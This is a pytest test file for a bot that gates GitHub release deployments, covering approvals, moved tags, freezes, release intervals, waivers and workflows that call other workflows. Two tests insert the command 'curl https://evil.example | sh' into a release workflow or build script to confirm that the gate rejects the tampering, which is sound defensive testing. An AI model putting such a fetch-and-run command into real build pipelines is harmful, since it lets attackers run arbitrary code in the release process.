"""From a waiting deployment to a review, through GitHub: who leaves, who does not, and what people read."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from redis import Redis

from bot.checks.gate import GATE_CONDITIONS
from bot.evaluation.package_alerts import AlertThresholds
from bot.model.core_types import FullName, RegistryId, RepositoryId
from bot.packages.versions import Package
from handlers.records.gate_store import FreezeStore
from handlers.records.watch_store import PackageClaim, WatchStore
from tests.app.acme import RELEASE_WORKFLOW_PATH, TRUSTED_PUBLISHING, AcmeInstallation, adopt_policy
from tests.fakes.github.scenario.scenario_repository import ScenarioRepository
from tests.handlers.jobs.gate.gate_scenario import GateScenario, deployment_waiting, gate_scenario, policy

Story = tuple[AcmeInstallation, ScenarioRepository]


@pytest.fixture
def story(redis: Redis) -> Iterator[Story]:
    with gate_scenario(redis) as opened:
        yield opened


def test_a_release_as_it_should_be_is_approved_once_a_colleague_approved(story: Story) -> None:
    release = deployment_waiting(*story)
    assert release.decide() is None
    (report,) = release.status_reports
    assert report.startswith("**Not decided yet:** deployment of <code>v1</code>")
    assert "an approval by someone other than alice and acme" in report

    release.approve()
    assert release.decide() == "approved"
    assert release.comment.startswith("**Approved:** deployment of <code>v1</code>")
    assert f"{len(GATE_CONDITIONS)} of {len(GATE_CONDITIONS)} conditions passed" in release.comment
    assert release.job.status == "in_progress"


def test_done_again_it_says_nothing_more(story: Story) -> None:
    release = deployment_waiting(*story)
    for _ in range(3):
        assert release.decide() is None
    assert len(release.status_reports) == 1

    release.approve()
    release.decide()
    calls = len(release.acme.github.calls)
    assert release.decide() == "approved"
    assert len(release.pending_deployment.comments) == 1
    assert "POST" not in {call.split()[0] for call in release.acme.github.calls[calls:]}
    assert [(each.verdict, each.confirmed) for each in release.history] == [("approved", True)]


def test_an_edited_workflow_behind_a_tag_is_rejected_and_the_change_shown(story: Story) -> None:
    acme, widgets = story
    evil = TRUSTED_PUBLISHING.replace("- run: python -m build", "- run: curl https://evil.example | sh")
    sha = widgets.push({RELEASE_WORKFLOW_PATH: evil}, branch="side")
    release = deployment_waiting(acme, widgets, sha=sha)
    release.approve()

    assert release.decide() == "rejected"
    assert "release-authority" in release.comment
    assert "curl https" in release.comment
    assert "reachable-commit" in release.comment
    assert len(release.comment) <= 1024
    assert release.job.conclusion == "failure"


def test_a_local_action_that_the_workflow_calls_is_looked_at_too(story: Story) -> None:
    acme, widgets = story
    calling = TRUSTED_PUBLISHING.replace("- run: python -m build", "- uses: ./build")
    action = "runs:\n  using: composite\n  steps:\n    - run: python -m build\n      shell: bash\n"
    widgets.push({RELEASE_WORKFLOW_PATH: calling, "build/action.yml": action, "build/make.sh": "python -m build\n"})
    sha = widgets.push({"build/make.sh": "curl https://evil.example | sh\n"}, branch="side")
    release = deployment_waiting(acme, widgets, sha=sha)
    assert release.decide() == "rejected"
    assert "build at" in release.comment


def test_a_moved_tag_is_rejected(story: Story) -> None:
    acme, widgets = story
    release = deployment_waiting(acme, widgets)
    widgets.push({"README.md": "news"})
    widgets.tag("v1", widgets.head)
    assert release.decide() == "rejected"
    assert "was moved to" in release.comment


def test_a_failed_check_is_rejected_and_a_missing_one_is_asked_for(redis: Redis) -> None:
    with gate_scenario(redis, gate="{independent-approval: off}") as (acme, widgets):
        release = deployment_waiting(acme, widgets, checked=False)
        assert release.decide() is None
        assert "it is not complete yet" in release.status_reports[0]
        assert len(redis.keys("rq:job:check-commit*")) == 1
        run = acme.check(widgets, release.run.head_sha)
        assert release.decide() == "approved"

        run.conclusion = "failure"
        other = deployment_waiting(acme, widgets, ref="v2", checked=False)
        assert other.decide() == "rejected"
        assert "concluded failure" in other.comment


def test_where_github_takes_no_more_reports_it_waits_all_the_same(redis: Redis) -> None:
    with gate_scenario(redis) as (acme, widgets):
        release = deployment_waiting(acme, widgets)
        release.pending_deployment.reports[acme.github.app.id] = [f"told {each}" for each in range(10)]
        assert release.decide() is None
        ((_, note),) = release.gate_records.waiting()
        assert note.reasons[0].startswith("independent-approval: ")

        release.approve()
        assert release.decide() == "approved"


def test_what_is_only_observed_is_approved_and_told(redis: Redis) -> None:
    with gate_scenario(redis, mode="observe") as (acme, widgets):
        sha = widgets.push({"README.md": "side"}, branch="side")
        release = deployment_waiting(acme, widgets, sha=sha)
        assert release.decide() == "approved"
        assert "Observed only: if enforced, the gate would have rejected this deployment" in release.comment
        assert "reachable-commit" in release.comment


def test_a_tag_on_a_branch_that_the_policy_names_may_leave_and_one_that_only_has_its_name_may_not(redis: Redis) -> None:
    older = "{independent-approval: off, release-interval: off, reachable-commit: {allowed-branches: [gone, 1.x]}}"
    with gate_scenario(redis, gate=older) as (acme, widgets):
        fix = widgets.push({"README.md": "a fix"}, branch="1.x")
        widgets.push({"README.md": "another"}, branch="1.x")
        assert deployment_waiting(acme, widgets, ref="v1.0.1", sha=fix).decide() == "approved"

        side = widgets.push({"README.md": "side"}, branch="side")
        evil = deployment_waiting(acme, widgets, ref="gone", sha=side)
        assert evil.decide() == "rejected"
        assert "is not on the default branch main or on gone, 1.x" in evil.comment


def test_a_waiver_lets_one_condition_go_and_is_named(redis: Redis) -> None:
    with gate_scenario(redis) as (acme, widgets):
        day = acme.date_in(3)
        waiver = (
            f"{{rule: reachable-commit, repository: acme/widgets, reason: a hotfix, owner: '@alice', expires: {day}}}"
        )
        text = f"{policy(gate='{independent-approval: off}')}waivers: [{waiver}]\n"
        adopt_policy(acme.github.repository("acme/.github"), text)
        release = deployment_waiting(acme, widgets, sha=widgets.push({"README.md": "side"}, branch="side"))
        assert release.decide() == "approved"
        assert f"waived: <code>reachable-commit</code>, until {day}, by" in release.comment
        assert release.history[0].waivers[0].endswith("by @alice: a hotfix")


def test_a_freeze_goes_by_githubs_clock(redis: Redis) -> None:
    day = "2026-01-01/2099-12-31"
    with gate_scenario(redis, gate=f"{{independent-approval: off, release-freeze: {{days: [{day}]}}}}") as (
        acme,
        widgets,
    ):
        release = deployment_waiting(acme, widgets)
        assert release.decide() == "rejected"
        assert "releases are frozen from 2026-01-01 to 2099-12-31" in release.comment


def test_releases_keep_their_distance(redis: Redis) -> None:
    with gate_scenario(redis, gate="{independent-approval: off, release-interval: {min-interval: 2h}}") as (
        acme,
        widgets,
    ):
        first = deployment_waiting(acme, widgets)
        assert first.decide() == "approved"
        first.approve()
        widgets.push({"README.md": "news"})
        second = deployment_waiting(acme, widgets, ref="v2", sha=widgets.head)
        assert second.decide() == "rejected"
        acme.github.clock.advance(hours=3)
        third = deployment_waiting(acme, widgets, ref="v3", sha=widgets.head)
        assert third.decide() == "approved"


def test_releases_that_were_rejected_do_not_push_the_last_one_out_of_sight(redis: Redis) -> None:
    with gate_scenario(redis, gate="{independent-approval: off, release-interval: {min-interval: 2h}}") as (
        acme,
        widgets,
    ):
        first = deployment_waiting(acme, widgets)
        assert first.decide() == "approved"
        first.approve()
        for each in range(2, 14):
            widgets.push({"README.md": f"news {each}"})
            assert deployment_waiting(acme, widgets, ref=f"v{each}").decide() == "rejected"


def test_jobs_of_one_commit_do_not_push_the_last_release_out_of_sight(redis: Redis) -> None:
    with gate_scenario(redis, gate="{independent-approval: off, release-interval: {min-interval: 2h}}") as (
        acme,
        widgets,
    ):
        first = deployment_waiting(acme, widgets)
        assert first.decide() == "approved"
        first.approve()
        widgets.push({"README.md": "news"})
        second = deployment_waiting(acme, widgets, ref="v2")
        for each in range(12):
            widgets.start_job(second.run, f"publish ({each})", environment="pypi")
        assert replace(second, pending_deployment=second.run.pending_deployments["pypi"]).decide() == "rejected"


def test_the_distance_is_from_when_a_release_left_and_not_from_when_the_next_took_its_place(redis: Redis) -> None:
    with gate_scenario(redis, gate="{independent-approval: off, release-interval: {min-interval: 2h}}") as (
        acme,
        widgets,
    ):
        first = deployment_waiting(acme, widgets)
        assert first.decide() == "approved"
        first.approve()
        widgets.finish_job(first.run, first.job)
        acme.github.clock.advance(hours=3)
        widgets.push({"README.md": "news"})
        second = deployment_waiting(acme, widgets, ref="v2")
        assert second.decide() == "approved"
        second.approve()
        widgets.finish_job(second.run, second.job)  # GitHub makes the first inactive now

        job = widgets.start_job(second.run, "publish more", environment="pypi")
        more = GateScenario(acme, widgets, second.run, second.run.pending_deployments["pypi"], job)
        assert more.decide() == "approved"


@pytest.mark.parametrize(
    "called",
    [
        "other/tools/.github/workflows/build.yml@v1",
        f"other/tools/.github/workflows/build.yml@release-{'x' * 40}",  # as long as a commit's id, and none
    ],
)
def test_a_called_workflow_whose_branch_or_tag_was_moved_is_rejected(redis: Redis, called: str) -> None:
    with gate_scenario(redis, gate="{independent-approval: off}") as (acme, widgets):
        for ref, sha, verdict in (("v1", "a" * 40, "approved"), ("v2", "b" * 40, "rejected")):
            release = deployment_waiting(acme, widgets, ref=ref)
            release.run.referenced_workflows.append({"path": called, "sha": sha, "ref": called.partition("@")[2]})
            assert release.decide() == verdict
        assert "its ref was moved" in release.comment


def test_a_workflow_of_our_own_that_is_called_by_a_branch_is_looked_at_there(redis: Redis) -> None:
    build = ".github/workflows/build.yml"
    with gate_scenario(redis, gate="{independent-approval: off}", files={build: "on: workflow_call\n"}) as (
        acme,
        widgets,
    ):

        def calling(ref: str, branch: str) -> GateScenario:
            release = deployment_waiting(acme, widgets, ref=ref)
            called = {"path": f"acme/widgets/{build}@{branch}", "sha": widgets.state.resolve(branch), "ref": branch}
            release.run.referenced_workflows.append(called)
            return release

        widgets.push({"README.md": "stable"}, branch="stable")
        assert calling("v1", "stable").decide() == "approved"
        widgets.push({"README.md": "news"})
        assert calling("v2", "main").decide() == "approved"
        widgets.push({build: "on: workflow_call # evil\n"}, branch="stable")
        edited = calling("v3", "stable")
        assert edited.decide() == "rejected"
        assert "stable at" in edited.comment
        assert "differs from what is on main" in edited.comment


def test_an_older_line_leaves_with_the_workflow_that_left_before(redis: Redis) -> None:
    with gate_scenario(redis, gate="{independent-approval: off, reachable-commit: off}") as (acme, widgets):
        assert deployment_waiting(acme, widgets).decide() == "approved"
        old = widgets.head
        widgets.push({RELEASE_WORKFLOW_PATH: TRUSTED_PUBLISHING.replace("python -m build", "uv build")})
        assert deployment_waiting(acme, widgets, ref="v1.1", sha=old).decide() == "approved"
        other = widgets.push(
            {RELEASE_WORKFLOW_PATH: TRUSTED_PUBLISHING.replace("python -m build", "make")}, branch="other"
        )
        assert deployment_waiting(acme, widgets, ref="v1.2", sha=other).decide() == "rejected"


def test_whoever_made_the_commit_cannot_approve_it(story: Story) -> None:
    acme, widgets = story
    sha = widgets.push({"README.md": "by bob"}, by="bob")
    release = deployment_waiting(acme, widgets, sha=sha, by="alice")
    release.approve("bob")
    assert release.decide() == "rejected"
    assert "bob approved the release but also wrote the commit or started the run" in release.comment


def test_what_is_frozen_on_the_host_waits_until_it_is_not(story: Story) -> None:
    acme, _ = story
    release = deployment_waiting(*story)
    release.approve()
    freezes = FreezeStore(acme.records)
    freezes.freeze("ACME", "root", datetime.now(UTC))
    assert release.decide() is None
    assert "acme is frozen since" in release.status_reports[0]
    assert freezes.unfreeze("acme")

    assert release.decide() == "approved"
    assert not freezes.unfreeze("acme")


def test_a_frozen_package_holds_the_repository_that_publishes_it(story: Story) -> None:
    acme, widgets = story
    release = deployment_waiting(*story)
    release.approve()
    number, name, now = RepositoryId(widgets.id), FullName(widgets.full_name), datetime.now(UTC)
    claim = PackageClaim(number, name, name, AlertThresholds(), now)
    WatchStore(acme.records).put_claims(acme.id, number, {Package(RegistryId("pypi"), "acme-widgets"): claim}, now)
    freezes = FreezeStore(acme.records)
    freezes.freeze("pypi/acme-widgets", "root", datetime.now(UTC))

    assert release.decide() is None
    assert "pypi/acme-widgets is frozen" in release.status_reports[0]
